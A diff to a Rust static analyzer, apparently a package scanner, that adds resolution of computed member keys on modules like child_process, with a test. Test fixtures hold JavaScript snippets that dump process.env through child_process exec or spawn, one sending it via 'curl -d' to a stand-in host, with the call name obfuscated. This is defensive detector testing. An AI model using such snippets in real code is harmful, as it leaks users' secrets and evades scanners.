@@ -2028,10 +2028,10 @@ impl<'s> Walker<'s> {
             Expression::ThisExpression(_) => self.this_global.then_some(Val::SloppyThis),
             Expression::NewExpression(n) => self.new_val(n, d + 1),
             Expression::StaticMemberExpression(m) => self.mem(self.val_d(&m.object, d + 1), m.property.name.as_str()),
-            Expression::ComputedMemberExpression(m) => {
-                let k = self.fold(&m.expression)?;
-                self.mem(self.val_d(&m.object, d + 1), &k)
-            }
+            Expression::ComputedMemberExpression(m) => match self.fold(&m.expression) {
+                Some(k) => self.mem(self.val_d(&m.object, d + 1), &k),
+                None => self.followed_key_member(m, d + 1),
+            },
             Expression::ParenthesizedExpression(p) => self.val_d(&p.expression, d + 1),
             Expression::TSAsExpression(x) => self.val_d(&x.expression, d + 1),
             Expression::TSSatisfiesExpression(x) => self.val_d(&x.expression, d + 1),
@@ -2072,6 +2072,27 @@ impl<'s> Walker<'s> {
             Expression::ImportExpression(i) => self.spec_val(&i.source),
             _ => None,
         }
+    }
+
+    /// The member of a module bound to a name at a key that does not fold
+    /// (`cp[m()]`, `cp[o.k]`, `cp[name]` with `name` a parameter): one of the
+    /// module's tracked members among the key's followed strings, per world
+    /// (see [`Walker::choose`]). Another object, or one not a name, gives
+    /// none and is not evaluated.
+    fn followed_key_member(&self, m: &ComputedMemberExpression<'_>, d: u32) -> Option<Val> {
+        let Expression::Identifier(_) = m.object.get_inner_expression() else {
+            return None;
+        };
+        let ov = self.val_d(&m.object, d)?;
+        if !matches!(ov, Val::Mod(b) if b != Builtin::Other) {
+            return None;
+        }
+        self.choose(
+            self.fold_specs(&m.expression)
+                .iter()
+                .map(|k| self.mem(Some(ov), k))
+                .filter(|v| v.is_some_and(Val::is_trackable_member)),
+        )
     }
 
     /// What a value depends on besides the expression: the tables and shapes
@@ -5200,6 +5221,53 @@ mods.map((s) => require(s));",
             "['vm'].reduce((acc, n) => require(n), 0);",
         ];
         assert_specifiers(&found, &harmless);
+    }
+
+    /// SLO-02: a module's function called through a computed key the
+    /// specifier following resolves is that function (an exec sink).
+    #[test]
+    fn slo_02_a_module_member_at_a_followed_key_is_its_function() {
+        // Each only child-process and process-env before (no chain).
+        let found = [
+            "const cp = require('child_process');
+function m() { return 'exec'; }
+cp[m()](JSON.stringify(process.env));",
+            "const cp = require('child_process');
+const o = { k: 'exec' + 'Sync' };
+cp[o.k]('curl -d ' + JSON.stringify(process.env) + ' x.example');",
+            "const cp = require('child_process');
+function call(name) { return cp[name](JSON.stringify(process.env)); }
+call('sp' + 'awn');",
+        ];
+        for src in found {
+            let r = rules(src);
+            assert!(r.contains(&RuleId::ExfiltrationChain), "{src:?}: {r:?}");
+        }
+        // No secret passed, a harmless module, a key naming no exec
+        // function stay without a chain.
+        let harmless = [
+            (
+                "const cp = require('child_process');
+function m() { return 'exec'; }
+cp[m()]('ls');",
+                vec![RuleId::ChildProcess],
+            ),
+            (
+                "const p = require('path');
+function m() { return 'join'; }
+p[m()](JSON.stringify(process.env));",
+                vec![RuleId::ProcessEnv],
+            ),
+            (
+                "const cp = require('child_process');
+function m() { return 'toString'; }
+cp[m()](JSON.stringify(process.env));",
+                vec![RuleId::ChildProcess, RuleId::ProcessEnv],
+            ),
+        ];
+        for (src, want) in harmless {
+            assert_eq!(rules(src), want, "{src:?}");
+        }
     }
 
     /// SLO-02: a computed key of a powerful object that the specifier
